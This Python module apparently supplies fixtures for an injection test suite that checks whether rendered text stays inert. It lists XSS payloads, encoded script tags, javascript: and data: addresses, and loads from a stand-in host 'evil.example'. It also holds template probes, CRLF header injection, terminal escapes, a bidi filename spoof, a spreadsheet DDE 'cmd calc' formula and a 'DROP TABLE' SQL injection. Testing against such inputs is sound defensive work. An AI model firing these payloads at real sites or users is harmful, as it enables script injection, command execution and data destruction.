"""Texts that try to be more than text: HTML, scripts, styles, addresses, templates, directions, terminals, sheets."""

from __future__ import annotations

#: Scripts report themselves by `alert`, which `browser.WATCH` notes; anything loaded would come from EVIL.
EVIL = "http://evil.example"

PAYLOADS = (
    # HTML that runs
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "]]><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT >",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    f"<script src={EVIL}/x.js></script>",
    "<script type=module>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror='alert(1)'>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg/><image href=x onerror=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src=javascript:parent.alert(1)></iframe>",
    f"<object data={EVIL}/x.swf></object><embed src={EVIL}/y>",
    "<template><script>alert(1)</script></template>",
    '" onmouseover="alert(1)" autofocus onfocus="alert(1)',
    "' onfocus='alert(1)' autofocus '",
    # entities and encodings that a second reading would turn into HTML
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(1)&#62;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "＜script＞alert(1)＜/script＞",
    # addresses
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)//@example.com",
    "data:text/html,<script>alert(1)</script>",
    "https://a@evil.example/ https://evil.example\\@example.com",
    'https://example.com/" onclick="alert(1)',
    "mailto:a@example.com?body=<script>alert(1)</script>",
    f"![x]({EVIL}/pixel.png) [x](javascript:alert(1))",
    f"<a href='{EVIL}' ping='{EVIL}'>x</a><base href='{EVIL}'><meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<form action={EVIL}><button>Yes</button></form>",
    # styles
    "<style>*{display:none}</style>",
    f"<link rel=stylesheet href={EVIL}/x.css>",
    f"<div style='position:fixed;inset:0;background:url({EVIL}/x)'>",
    "}}*{display:none}",
    # templates
    "{{ 7 * 7 }}{% for x in ().__class__ %}",
    "${alert(1)}`${alert(1)}`",
    "{n}{most}{k}",
    "__proto__",
    # directions, invisible characters, terminals, headers, sheets
    "\u202egnp.exe\u202c \u2066x\u2069 \u200b\u200f\ufeff.",
    "\u2028alert(1)\u2029//",
    "\x1b[2J\x1b]0;owned\x07\x1b[31mred",
    "a\r\nSet-Cookie: x=1\r\n\r\n<script>alert(1)</script>",
    '=HYPERLINK("http://evil.example","x")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'; DROP TABLE feedback; --",
    "Z" + "\u0310\u0330" * 60 + "a" * 400,
)
